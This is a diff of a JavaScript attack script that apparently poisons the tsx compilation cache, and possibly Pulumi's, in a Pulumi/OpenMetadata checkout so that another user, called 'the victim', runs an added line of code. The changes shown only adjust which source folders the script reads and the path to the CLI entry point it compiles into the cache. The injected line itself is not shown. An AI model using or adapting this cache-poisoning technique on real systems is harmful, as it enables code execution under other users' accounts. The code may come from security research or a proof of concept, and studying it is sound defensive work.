@@ -15,7 +15,7 @@ const pulumi = dirname(require.resolve("@pulumi/pulumi/package.json"));
 
 /** The sources that the program, the policies and the provider are made of. */
 function sources() {
-    const folders = ["config", "components", "openmetadata", "policies", "provider", "serverApi"];
+    const folders = ["config", "components", "openmetadata", "policies", "plugins"];
     const files = folders.flatMap((folder) =>
         fs.readdirSync(join(checkout, folder), { recursive: true, encoding: "utf8" }).map((name) => join(folder, name)),
     );
@@ -52,7 +52,8 @@ function poisonPulumi(folder, options, tsconfig = "tsconfig.json") {
 /** Fills the cache of tsx: what it compiled for this user, with a line more, as the victim's. */
 function poisonTsx() {
     // It writes while the program runs on, and the command would end before.
-    const program = 'process.exit = () => undefined; process.argv.push("--version"); require("./commands/main.ts");';
+    const program =
+        'process.exit = () => undefined; process.argv.push("--version"); require("./cli/commands/main.ts");';
     execFileSync(process.execPath, ["--import", "tsx", "--eval", program], {
         cwd: checkout,
         stdio: "ignore",
